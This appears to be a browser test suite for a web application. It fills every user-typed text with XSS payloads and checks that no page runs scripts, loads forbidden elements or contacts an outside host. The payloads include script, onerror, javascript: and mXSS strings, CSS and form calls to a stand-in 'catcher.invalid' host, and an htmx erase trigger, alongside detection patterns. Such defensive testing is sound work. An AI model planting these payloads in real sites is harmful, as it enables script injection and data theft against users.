"""Hostile words in every text that a person can type, then every page of the group in a real browser.

Nothing may run, nothing may be asked of another host, and only known elements and attributes may stand in the page.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Request

from app.config import Settings
from app.policy import Actor
from app.uow import Database
from tests import cast
from tests.live import LiveServer
from tests.world import World, build_world

CATCHER = "catcher.invalid"
#: One of each family; each calls alert or asks the catcher if it ever comes alive.
CORPUS = (
    f"<script>alert(1)</script><script src=//{CATCHER}/a.js></script>",
    f"<img src=x onerror=alert(2)><img src=https://{CATCHER}/pixel.png>",
    "<svg onload=alert(3)><animate onbegin=alert(3) attributeName=x></svg>",
    "[click](javascript:alert(4)) <a href='jav&#x09;ascript:alert(4)'>x</a> <JaVaScRiPt:alert(4)>",
    f"![pixel](https://{CATCHER}/p.gif) [ref][r]\n\n[r]: javascript:alert(5)",
    f"<iframe srcdoc='<script>alert(6)</script>'></iframe><iframe src=//{CATCHER}/f></iframe>",
    f"<style>@import '//{CATCHER}/s.css';*{{background:url(//{CATCHER}/b)}}</style><p style=color:url(//{CATCHER})>",
    f"<base href=//{CATCHER}/><meta http-equiv=refresh content='0;url=//{CATCHER}/m'><link href=//{CATCHER}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(9)>'></table></math>",
    f"<form action=//{CATCHER}/><input name=csrf_token autofocus onfocus=alert(10)><button formaction=//{CATCHER}>",
    "<details open ontoggle=alert(11)><marquee onstart=alert(11)><video><source onerror=alert(11)></video>",
    "\"'><img src=x onerror=alert(12)>`${alert(12)}`{{7*7}}{% raw %}<%= 7*7 %>",
    "</title></textarea></script></style><template><img src=x onerror=alert(13)></template><xmp><noscript>",
    "<a id=cookie name=body href=data:text/html,<script>alert(14)</script>>x</a><p id=main class=button>clobber</p>",
    f"<https://{CATCHER}/auto> <data:text/html;base64,PHNjcmlwdD4=> //{CATCHER}/rel http://{CATCHER}/plain",
    "\u202egnp.exe\u202c \u200bzero \ufeffwidth \x7f <!--[if IE]><script>alert(16)</script><![endif]-->",
    "<p data-module=live data-topics=x hx-get=/account/erase hx-trigger=load hx-on::load=alert(17)>",
    "```\n</code></pre><script>alert(18)</script>\n```\n\n| <script>alert(18)</script> | b |\n|---|---|\n| c | d |",
)
#: Elements that pages are made of; what carries content from elsewhere is not among them.
FORBIDDEN = "iframe, object, embed, applet, base, math, marquee, video, audio, xmp, frame, frameset, portal"


@pytest.fixture
def hostile(app_settings: Settings) -> Iterator[World]:
    """A world whose every text is hostile, in turns; on the clock of the server that will show it."""
    turns = itertools.cycle(CORPUS)
    database = Database(app_settings)
    yield build_world(database, lambda place: f"{next(turns)} {place}")
    database.close()


class Watch:
    """What a browser must not do, as it does it."""

    def __init__(self, context: BrowserContext, server: LiveServer) -> None:
        self.faults: list[str] = []
        self.page = context.new_page()
        self.page.on("dialog", self.dialog)
        self.page.on("popup", lambda popup: self.faults.append(f"{self.page.url} opened {popup.url}"))
        context.on("request", lambda request: self.request(request, server))

    def dialog(self, dialog: object) -> None:
        self.faults.append(f"{self.page.url} ran a script: {dialog}")
        dialog.dismiss()  # type: ignore[attr-defined]

    def request(self, request: Request, server: LiveServer) -> None:
        if not request.url.startswith((server.url, server.url.replace("http", "ws"), "data:image/", "blob:")):
            self.faults.append(f"{self.page.url} asked for {request.url}")


#: Runs in the page: what must not be there, whatever the policy then keeps from running.
SEARCH = """([forbidden, catcher]) => {
  const found = [];
  for (const each of document.querySelectorAll(forbidden)) found.push(each.outerHTML.slice(0, 120));
  for (const each of document.querySelectorAll('*')) {
    for (const {name, value} of each.attributes) {
      const address = ['href', 'src', 'action', 'formaction', 'xlink:href', 'srcset', 'poster', 'data'].includes(name);
      if (name.startsWith('on') || name === 'srcdoc' || name.startsWith('hx-on')) found.push(`${name}=${value}`);
      if (address && /^[\\s\\x00-\\x20]*(javascript|vbscript|data:text|data:image.svg)/i.test(value))
        found.push(`${name}=${value}`.slice(0, 120));
      if (address && value.includes(catcher) && !(each.tagName === 'A' && /^https?:/.test(value)))
        found.push(`${each.tagName} ${name}=${value}`);
      if (name === 'style' && value.includes('url(')) found.push(`${name}=${value}`);
      if (name === 'hx-get' && value.includes('erase')) found.push(`${name}=${value}`);
    }
    if (each.tagName === 'A' && each.getAttribute('href')?.includes(catcher) && !/noopener|noreferrer/.test(each.rel))
      found.push(`a link elsewhere without rel: ${each.outerHTML.slice(0, 160)}`);
    if (each.tagName === 'SCRIPT' && !each.src && each.type !== 'application/json' && each.textContent.trim())
      found.push(each.outerHTML.slice(0, 120));
    if (each.tagName === 'IMG' && !each.src.startsWith(location.origin) && !each.src.startsWith('data:image/'))
      found.push(each.outerHTML.slice(0, 120));
  }
  return found;
}"""


def pages_of(world: World) -> dict[str, list[str]]:
    """Every page of the group that shows words, by who may look at it."""
    home, ids = f"/g/{world.cast.slug}", world.ids
    item, past, now = f"{home}/blueprint/items/{ids['item_id']}", ids["past_meeting_id"], ids["meeting_id"]
    closed = f"{home}/validation/rounds/{ids['closed_round_id']}"
    return {
        "facilitator": [
            "/", f"{home}/", f"{home}/activity/", f"{home}/people/", f"{home}/blueprint", item, f"{item}/history",
            f"{home}/blueprint/items/{ids['draft_id']}/compare", f"{home}/evidence/",
            f"{home}/evidence/matrix", f"{home}/versions/", f"{home}/versions/{ids['version_id']}",
            f"{home}/sessions", f"{home}/sessions/{past}", f"{home}/sessions/{past}/minutes",
            f"{home}/sessions/{now}/console", f"{home}/sessions/{now}/plan", f"{home}/sessions/decisions",
            f"{home}/sessions/decisions/{ids['decision_id']}", f"{home}/sessions/actions", f"{home}/validation/",
            closed, f"{closed}/results", f"{closed}/results/all", f"{closed}/results/items/{world.words['reference']}",
            f"/screen/{world.words['screen']}",
        ],
        "member": [
            f"{home}/sessions/{now}/room", f"{home}/practice", f"{home}/practice/vote", f"{home}/practice/together",
            f"/g/{world.words['practice']}/blueprint",
        ],
        "panel_manager": [
            f"{home}/validation/panel/", f"{home}/validation/panel/rounds/{ids['closed_round_id']}/comments",
            f"{home}/validation/rounds/{ids['round_id']}/protocol",
        ],
    }  # fmt: skip


def expert_pages(world: World) -> list[str]:
    return ["/rate/", "/rate/sheet", f"/rate/item/{world.ids['version_item_id']}", "/rate/review"]


def visits(world: World, new: Callable[[Actor | None], Watch], server: LiveServer) -> Iterator[tuple[Watch, str]]:
    for role, paths in pages_of(world).items():
        watch = new(world.insiders[role])
        for path in paths:
            yield watch, path
    watch = new(None)
    watch.page.goto(f"{server.url}/r/{world.seat_tokens[0]}")
    watch.page.locator("form button").first.click()
    for path in expert_pages(world):
        yield watch, path


def test_no_word_comes_alive_anywhere(
    hostile: World, start_server: Callable[..., LiveServer], browser_context: Callable[..., BrowserContext]
) -> None:
    server = start_server(CONCORDAT_SECRET=hostile.database.settings.secret)

    def new(actor: Actor | None) -> Watch:
        context = browser_context(base_url=server.url)
        if actor is not None:
            cast.enter(context, server, actor.email or "")
        return Watch(context, server)

    faults: list[str] = []
    shown = 0
    for watch, path in visits(hostile, new, server):
        answer = watch.page.goto(server.url + path, wait_until="load")
        assert answer is not None
        faults += [f"{path}: {answer.status}"] if answer.status != 200 else []
        faults += [f"{path}: {each}" for each in watch.page.evaluate(SEARCH, [FORBIDDEN, CATCHER])]
        shown += len(re.findall(r"alert\(\d+\)", watch.page.content()))
        faults += watch.faults
        watch.faults.clear()
    assert not faults, "\n".join(faults)
    assert shown > 100, "the words are there, as words"


def test_were_something_to_slip_through_the_browser_would_refuse_it(server: LiveServer, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(f"{server.url}/sign-in")
    page.evaluate(
        """(catcher) => {
          window.seen = [];
          document.addEventListener('securitypolicyviolation', (event) => window.seen.push(event.effectiveDirective));
          document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran = true">');
          document.body.insertAdjacentHTML('beforeend', `<img src="https://${catcher}/pixel">`);
          const script = document.createElement('script');
          script.textContent = 'window.ran = true';
          document.body.append(script);
          const far = document.createElement('script');
          far.src = `https://${catcher}/x.js`;
          document.body.append(far);
          setTimeout('window.ran = true', 0);
          fetch(`https://${catcher}/`).catch(() => {});
        }""",
        CATCHER,
    )
    page.wait_for_function("window.seen.includes('img-src') && window.seen.length >= 6")
    seen, ran = page.evaluate("[window.seen, window.ran === true]")
    page.context.close()
    assert not ran
    assert set(seen) >= {"script-src", "script-src-elem", "script-src-attr", "img-src", "connect-src"}
